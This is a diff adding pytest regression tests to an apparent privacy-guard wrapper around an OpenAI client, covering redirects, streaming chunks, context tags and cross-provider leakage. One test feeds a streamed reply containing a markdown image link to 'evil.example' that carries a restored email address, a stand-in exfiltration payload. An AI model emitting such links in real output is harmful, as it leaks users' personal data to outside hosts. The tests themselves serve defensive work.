@@ -397,3 +397,54 @@ def test_one_failing_epilogue_kept_the_others_from_running(
         with pytest.raises((RuntimeError, openai.APIConnectionError)):
             bot.chat(MAIL)
         assert {span.name for span in otlp.spans} >= {"guard chat", "chat gpt-5", "guarded_client.restore"}
+
+
+def test_a_refused_redirect_left_the_response_open(provider: LoopbackProvider, policy: Any) -> None:
+    seen: list[httpx2.Response] = []
+    with (
+        LoopbackProvider() as elsewhere,
+        httpx2.Client(follow_redirects=True, event_hooks={"response": [seen.append]}) as inner,
+    ):
+        client = guard(openai.OpenAI(base_url=provider.base_url, api_key="k", http_client=inner), policy, tags=TAGS)
+        provider.reply(Raw(307, {"location": f"{elsewhere.base_url}/chat/completions"}, b"x" * 100_000))
+        with pytest.raises(UnreadableRefused):
+            client.chat.completions.create(model="m", messages=[{"role": "user", "content": MAIL}])
+    assert [response.is_closed for response in seen] == [True]
+
+
+def test_an_empty_finish_reason_on_every_chunk_lost_the_context(bot: Bot, policy: Any) -> None:
+    bot.guard(policy)
+    pieces = ["hi <EMAIL_", "ADDRESS_1>", " ![](https://evil.example/?q=", "<EMAIL_ADDRESS_1>", ")"]
+    chunks = [
+        {"id": "1", "object": "chat.completion.chunk", "created": 1, "model": "m",
+         "choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": ""}]}
+        for piece in pieces
+    ]  # fmt: skip
+    body = b"".join(f"data: {json.dumps(chunk)}\n\n".encode() for chunk in chunks) + b"data: [DONE]\n\n"
+    bot.provider.reply(Raw(200, {"content-type": "text/event-stream"}, body))
+    assert bot.text(MAIL, stream=True) == f"hi {MAIL} ![](https://evil.example/?q=<EMAIL_ADDRESS_1>)"
+
+
+def test_a_block_in_a_waiting_generator_stayed_open() -> None:
+    from guarded_client._model import Tags
+    from guarded_client._tags import resolve
+
+    def lazy() -> Any:
+        with tagged(subject="alice"):
+            yield 1
+
+    waiting = lazy()
+    next(waiting)
+    with tagged(subject="bob"):
+        list(waiting)
+    assert resolve(Tags(), None).subject is None
+
+
+def test_what_one_provider_wrote_went_to_another(bot: Bot, policy: Any) -> None:
+    bot.guard(policy)
+    bot.provider.reply(MAIL)
+    answer = bot.text("decode it")
+    with LoopbackProvider() as other:
+        bot.client = bot.client.with_options(base_url=other.base_url.replace("127.0.0.1", "localhost"))
+        _ = bot.text(messages=[{"role": "assistant", "content": answer}, {"role": "user", "content": "and?"}])
+        assert MAIL.encode() not in other.wire
